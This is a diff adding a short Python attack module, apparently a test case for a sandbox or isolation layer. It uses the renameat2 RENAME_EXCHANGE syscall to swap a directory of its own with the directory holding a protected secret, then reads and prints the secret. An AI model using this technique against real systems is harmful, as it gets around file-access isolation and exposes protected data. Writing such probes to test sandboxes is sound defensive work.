@@ -1,0 +1,18 @@
+# RENAME_EXCHANGE: a directory of ours and the secret one change places.
+import os
+
+from inside import AT_FDCWD, call, run, show
+
+RENAMEAT2 = 316 if os.uname().machine == "x86_64" else 276
+RENAME_EXCHANGE = 2
+
+
+def attack(target):
+    os.mkdir(f"{target.work}/mine")
+    theirs = os.path.dirname(target.secret).encode()
+    call(RENAMEAT2, AT_FDCWD, theirs, AT_FDCWD, f"{target.work}/mine".encode(), RENAME_EXCHANGE)
+    with open(f"{target.work}/mine/secret", "rb") as file:
+        show(file.read())
+
+
+run(attack)
